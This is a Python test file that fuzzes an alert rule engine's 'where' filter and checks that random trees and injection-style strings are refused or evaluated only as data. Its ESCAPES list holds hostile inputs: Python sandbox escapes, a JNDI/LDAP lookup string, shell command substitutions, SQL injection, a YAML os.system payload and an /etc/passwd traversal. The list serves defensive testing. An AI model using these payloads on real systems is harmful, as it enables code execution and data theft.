"""`where` is data, and stays data: random trees and texts that try to be code are refused with their place, or compare (S13).

There is no language of expressions to escape from. So this holds what stands in its place: whatever a rule file says
there, reading it gives a rule or named mistakes, and a rule's `where` gives true or false of every event.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ioc.alerts.mistake import Mistake, RuleMistakes
from ioc.alerts.parse import parse
from ioc.alerts.rule import RuleSet
from ioc.alerts.where import compile_where
from tests.alerts.timeline import RULE, made

ESCAPES = (
    "__import__('os').system('id')",
    "().__class__.__mro__[1].__subclasses__()",
    "{0.__class__.__init__.__globals__}",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.1/a}",
    "$(id)",
    "`id`",
    "'; DROP TABLE event; --",
    "!!python/object/apply:os.system [id]",
    "lambda: 0",
    "%s%s%n",
    "../../etc/passwd",
    "\u202e\u0000\ud7ff",
)
FIELDS = (
    "source",
    "feed",
    "commune",
    "value",
    "quantity",
    "flags",
    "title",
    "__class__",
    "__dict__",
    "not",
    "any",
    "all",
    "",
)
TEXTS = st.sampled_from(ESCAPES) | st.text(max_size=20)
LEAVES = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | TEXTS
TREES = st.recursive(
    LEAVES,
    lambda below: st.lists(below, max_size=3) | st.dictionaries(st.sampled_from(FIELDS) | TEXTS, below, max_size=3),
    max_leaves=12,
)
EVENTS = [made("environment", 0, 90), made("environment", 0, -1.5, source="__class__", commune="nowhere")]


def judged(where: Any) -> bool:
    """Whether it was taken for a rule; what it then says of an event is true or false, and nothing else happens."""
    wrong: Sequence[Mistake]
    rules = RuleSet()
    try:
        rules = parse({"tried.yaml": json.dumps({"rules": [{**RULE, "where": where}]})})
    except RuleMistakes as refused:
        wrong = refused.mistakes
    else:
        wrong = ()
    if wrong:
        assert all(one.file == "tried.yaml" and one.field and one.code for one in wrong)
        return False
    test = compile_where(rules.rules[0].where, "environment")
    assert all(test is None or test(event) in (True, False) for event in EVENTS)
    return True


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(where=st.dictionaries(st.sampled_from(FIELDS) | TEXTS, TREES, max_size=3) | TREES)
def test_any_tree_is_a_rule_or_named_mistakes(where: Any) -> None:
    judged(where)


@pytest.mark.parametrize("field", ["source", "title", "value", "flags"])
@pytest.mark.parametrize("text", ESCAPES)
def test_a_text_that_would_be_code_is_a_text(field: str, text: str) -> None:
    for where in ({field: text}, {field: [text]}, {field: {"matches": text}}, {text: field}):
        taken = judged(where)
        assert not (taken and text in where), "no field has such a name"


def test_depth_is_capped() -> None:
    text = json.dumps({"rules": [{**RULE, "where": "@"}]}).replace('"@"', '{"not": ' * 2000 + "{}" + "}" * 2000)
    with pytest.raises(RuleMistakes):
        parse({"tried.yaml": text})
